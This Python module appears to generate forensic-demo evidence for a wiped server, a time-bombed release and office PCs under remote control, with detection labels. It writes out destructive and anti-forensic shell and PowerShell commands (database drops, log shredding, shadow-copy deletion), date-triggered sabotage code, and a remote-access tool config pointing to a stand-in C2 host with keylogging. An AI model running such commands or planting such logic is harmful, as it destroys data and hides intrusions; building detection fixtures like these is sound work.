"""B6 to B8: a server that was wiped, a release with a time bomb, office computers under remote control."""

from collections.abc import Iterator
from functools import partial

from core.demo.cases.piece import CONTENT, NAME, Piece, Sign, Size, text
from core.demo.decoys import log
from core.demo.parts import People
from core.demo.text import Style, table

VICTIMS = ("PC-FINANCE-01", "PC-SALES-02", "PC-HR-03")
_HISTORY = """\
cd /srv/share
ls -la
mysql -uroot -e 'drop database orders'
rm -rf /srv/share/backup/*
shred -u /var/log/auth.log
find /srv/logs -name '*.log' -delete
history -c
"""
_POWERSHELL = (
    "Get-ChildItem D:\\share\r\n"
    "Remove-Item -Recurse -Force D:\\share\\orders\r\n"
    "wevtutil cl Security\r\nvssadmin delete shadows /all\r\n"
)
_RELEASE = """\
#!/bin/sh
# release 3.2.1
set -e
if [ "$(date +%Y%m%d)" -ge 20210601 ]; then
    mv /opt/app/conf/db.properties /opt/app/conf/db.properties.bak
    kill -9 "$(cat /opt/app/app.pid)"
fi
cp -r dist/* /opt/app/
"""
_CHECK = """\
import datetime
import os

if datetime.date.today() > datetime.date(2021, 6, 1):
    os.remove("/opt/app/conf/license.dat")
"""
_CONTROL = """\
[server]
version=大灰狼9.5
host=c2.example.net
port=8080
password=888888
group=办公电脑
autorun=1
keylog=1
"""
_ONLINE = "上线时间,主机,系统\n" + "".join(
    f"2022-03-0{i} 09:1{i}:00,{pc},Windows 10\n" for i, pc in enumerate(VICTIMS, 1)
)


def pieces(size: Size) -> Iterator[Piece]:
    """B6, B7, B8."""
    nobody = People(0, 0, size.seed)
    yield Piece("B6/root/.bash_history", text(_HISTORY), (Sign("deletion", "shell", CONTENT),))
    yield Piece("B6/ConsoleHost_history.txt", text(_POWERSHELL), (Sign("deletion", "shell", CONTENT),))
    yield Piece("B6/BleachBit.exe.lnk.txt", text("BleachBit\n"), (Sign("deletion", "wiping", NAME),))
    yield Piece("B6/srv/logs/access.log", partial(log, size.rows(3_000), nobody))
    yield Piece("B7/release-3.2.1/deploy.sh", text(_RELEASE), (Sign("tools", "time_check", CONTENT),))
    yield Piece("B7/release-3.2.1/check_env.py", text(_CHECK), (Sign("tools", "time_check", CONTENT),))
    yield from _controlled(size)


def _controlled(size: Size) -> Iterator[Piece]:
    folder = "B8/大灰狼远控"
    tool = Sign("tools", "remote_control", NAME, folder)
    yield Piece(f"{folder}/config.ini", text(_CONTROL, "gb18030"), (tool, Sign("tools", "remote_control", CONTENT)))
    yield Piece(f"{folder}/上线记录.csv", text(_ONLINE), (Sign("tools", "remote_control", NAME),))
    style = Style(",", "gb18030", ("客户姓名", "身份证号", "手机号", "地址"), "\r\n")
    for number, victim in enumerate(VICTIMS):
        people = size.people(8 + number, 40_000 - 10_000 * number)
        make = partial(table, people, ("name", "resident_id", "mobile_phone", "address"), style)
        yield Piece(f"B8/受控主机/{victim}/客户资料.csv", make, (Sign("trade_secret", "customers", NAME),))
